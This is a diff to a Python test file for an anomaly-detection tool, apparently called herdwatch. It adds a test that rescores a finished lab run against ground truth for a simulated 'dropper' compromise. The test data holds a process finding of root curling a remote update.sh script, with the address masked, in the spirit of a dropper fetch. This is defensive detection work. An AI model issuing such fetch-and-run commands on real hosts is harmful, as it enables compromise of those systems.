@@ -7,11 +7,12 @@ from __future__ import annotations
 
 import argparse
 import contextlib
+import json
 import os
 import shutil
 import subprocess
 import sys
-from datetime import datetime, timedelta
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -228,3 +229,36 @@ def test_teardown_finds_what_is_left_of_a_lab_whatever_its_records_say(tmp_path:
         for p in (left, other):
             p.kill()
             p.wait()
+
+
+def test_a_finished_lab_is_rescored_from_its_files_with_todays_rules(tmp_path: Path) -> None:
+    from contract.findings import Finding, FindingKind, Severity
+    from herdwatch.cli import main
+    from herdwatch.lab.state import HostRecord, LabState
+
+    t0 = datetime(2026, 12, 2, 4, 0, tzinfo=UTC)
+    iso = lambda s: (t0 + timedelta(seconds=s)).isoformat()  # noqa: E731
+    hosts = [HostRecord(f"web-{i}", f"hwl1-web-{i}", "web", "web-v1", "web", "ns", f"10.9.9.{i}", "v",
+                        first=iso(0), last=iso(3600), alive=False) for i in range(3)]
+    truth = [{"scenario": "dropper-web-1", "kind": "compromise", "attack": "dropper", "host_id": "hwl1-web-1",
+              "image_family": "web", "start": iso(600), "end": iso(900), "hosts": [],
+              "details": {"slot": "web-1", "evidence": ["update.sh"]}}]
+    state = LabState("hwl1", str(tmp_path), "10.9.9", "br", "mac", "hwl1.", "k", 1, 2, 3, iso(0), warmup_s=60.0,
+                     hosts=hosts, truth=truth, ended=iso(3600))
+    state.save()
+
+    def finding(host: str, s: float, subject: str) -> dict:
+        f = Finding(FindingKind.RARE_FEATURE, host, "web-v1", "web", t0 + timedelta(seconds=s), 0.9, Severity.HIGH,
+                    subject, "x", {})
+        return {**f.to_dict(), "label": "false_alarm"}  # the labels of the old report are not trusted
+
+    anomalies = [finding("hwl1-web-1", 630, "proc:/usr/bin/curl|curl http://#.#.#.#:#/update.sh|root"),
+                 finding("hwl1-web-1", 640, "proc:/usr/bin/bash|bash /root/.pyenv/bin/pyenv init -|root"),
+                 finding("hwl1-web-2", 2000, "proc:/usr/bin/date|date|root")]
+    (tmp_path / "report.json").write_text(json.dumps({"anomalies": anomalies, "rollout_events": []}))
+    assert main(["lab", "rescore", "--dir", str(tmp_path)]) == 0
+    new = json.loads((tmp_path / "report.json").read_text())
+    assert (tmp_path / "report.previous.json").exists()
+    assert [a["label"] for a in new["anomalies"]] == ["dropper-web-1", "during_attack:dropper-web-1", "false_alarm"]
+    assert new["summary"]["detected"] == 1 and new["summary"]["false_alarms"] == 1
+    assert main(["lab", "rescore", "--dir", str(tmp_path / "nothing")]) == 2
